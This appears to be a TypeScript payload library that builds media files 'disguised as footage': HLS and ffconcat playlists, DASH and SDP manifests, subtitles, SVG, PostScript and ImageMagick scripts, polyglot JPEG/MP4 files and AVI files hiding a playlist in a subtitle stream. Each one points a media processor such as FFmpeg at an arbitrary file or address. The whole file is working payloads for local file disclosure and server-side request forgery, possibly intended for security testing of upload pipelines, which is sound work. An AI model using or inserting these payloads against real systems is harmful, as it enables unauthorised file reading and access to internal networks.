/** The target of a script: a file, an address or a device. */
type Script = (target: string) => string | Buffer;

/** Scripts, playlists, and containers with them, disguised as footage. */
export const SCRIPTS: Record<string, Script> = {
  'HLS playlist': (target) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${target}\n#EXT-X-ENDLIST\n`,
  'HLS master playlist': (target) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${target}\n`,
  'HLS key': (target) =>
    `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${target}"\n#EXT-X-MAP:URI="${target}"\n` +
    `#EXTINF:9,\n${target}\n#EXT-X-ENDLIST\n`,
  'concat script': (target) => `ffconcat version 1.0\nfile '${target}'\n`,
  'DASH manifest': (target) =>
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" ' +
    'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4">' +
    `<Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL></Representation>` +
    '</AdaptationSet></Period></MPD>',
  'Smooth Streaming manifest': (target) =>
    `<SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="video" Url="${target}"/></SmoothStreamingMedia>`,
  'IMF playlist': (target) =>
    `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>${target}</Id></CompositionPlaylist>`,
  'SDP description': (target) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\ni=${target}\nc=IN IP4 127.0.0.1\nt=0 0\n` +
    `m=video ${portOf(target)} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  'RTSP redirect': (target) => `[Reference]\nRef1=${target}\n`,
  'ASX playlist': (target) => `<asx version="3.0"><entry><ref href="${target}"/></entry></asx>`,
  'SubRip subtitles': (target) => `1\n00:00:00,000 --> 00:00:09,000\n<img src="${target}">\n`,
  'WebVTT subtitles': (target) => `WEBVTT\n\n00:00.000 --> 00:09.000\n<c.${target}>x</c>\n`,
  'SSA subtitles': (target) => `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${target}\n`,
  'SVG picture': (target) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">` +
    `<image x:href="${target}" width="9" height="9"/></svg>`,
  'PostScript picture': (target) => `%!PS-Adobe-3.0 EPSF-3.0\n(${target}) (r) file pop showpage\n`,
  'ImageMagick script': (target) => `push graphic-context\nimage over 0,0 9,9 '${target}'\n`,
  FFmetadata: (target) => `;FFMETADATA1\ntitle=${target}\n`,
  'MP4 head and playlist': (target) =>
    Buffer.concat([box('ftyp', 'isom\0\0\0\0isom'), text(`#EXTM3U\n#EXTINF:9,\n${target}\n`)]),
  'QuickTime reference movie': (target) =>
    box(
      'moov',
      box('rmra', box('rmda', box('rdrf', `\0\0\0\0url ${uint32(target.length + 1)}${target}\0`))),
    ),
  'JPEG head and playlist': (target) =>
    Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff]),
      text(`#EXTM3U\n#EXTINF:9,\n${target}\n`),
      Buffer.from([0xff, 0xd9]),
    ]),
  'AVI with a playlist for subtitles': (target) =>
    aviWithSubtitles(`#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${target}\n#EXT-X-ENDLIST\n`),
  'AVI with a concat script for subtitles': (target) =>
    aviWithSubtitles(`ffconcat version 1.0\nfile '${target}'\n`),
};

function text(characters: string): Buffer {
  return Buffer.from(characters, 'latin1');
}

function uint32(value: number): string {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes.toString('latin1');
}

function portOf(target: string): string {
  return URL.canParse(target) && new URL(target).port !== '' ? new URL(target).port : '9';
}

/** ISO/IEC 14496-12, 4.2. */
function box(type: string, content: string | Buffer): Buffer {
  const payload = typeof content === 'string' ? text(content) : content;
  return Buffer.concat([text(uint32(payload.length + 8) + type), payload]);
}

/** RIFF: sizes are little-endian, and chunks are padded to an even length. */
function chunk(type: string, content: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(content.length);
  return Buffer.concat([text(type), size, content, Buffer.alloc(content.length % 2)]);
}

const list = (type: string, ...parts: Buffer[]) =>
  chunk('LIST', Buffer.concat([text(type), ...parts]));

/** A subtitle stream inside AVI ("GAB2") is a complete file, whose format FFmpeg guesses. */
function aviWithSubtitles(subtitles: string): Buffer {
  const words = (...values: number[]) => Buffer.from(Uint32Array.from(values).buffer);
  const header = words(40_000, 0, 0, 0x10, 25, 0, 2, 0, 16, 16, 0, 0, 0, 0);
  const stream = (kind: string, format: Buffer) =>
    list(
      'strl',
      chunk('strh', Buffer.concat([text(kind), words(0, 0, 0, 1, 25, 0, 25, 0, 0, 0, 0, 0)])),
      chunk('strf', format),
    );
  const picture = Buffer.concat([
    words(40, 16, 16, 0x18_0001),
    text('MJPG'),
    words(768, 0, 0, 0, 0),
  ]);
  const file = text(subtitles);
  const gab2 = Buffer.concat([
    text('GAB2\0'),
    Buffer.from([2, 0]),
    words(0),
    Buffer.from([4, 0]),
    words(file.length),
    file,
  ]);
  return chunk(
    'RIFF',
    Buffer.concat([
      text('AVI '),
      list(
        'hdrl',
        chunk('avih', header),
        stream('vidsMJPG', picture),
        stream('txts\0\0\0\0', Buffer.alloc(0)),
      ),
      list('movi', chunk('01tx', gab2), chunk('00dc', Buffer.alloc(64))),
    ]),
  );
}
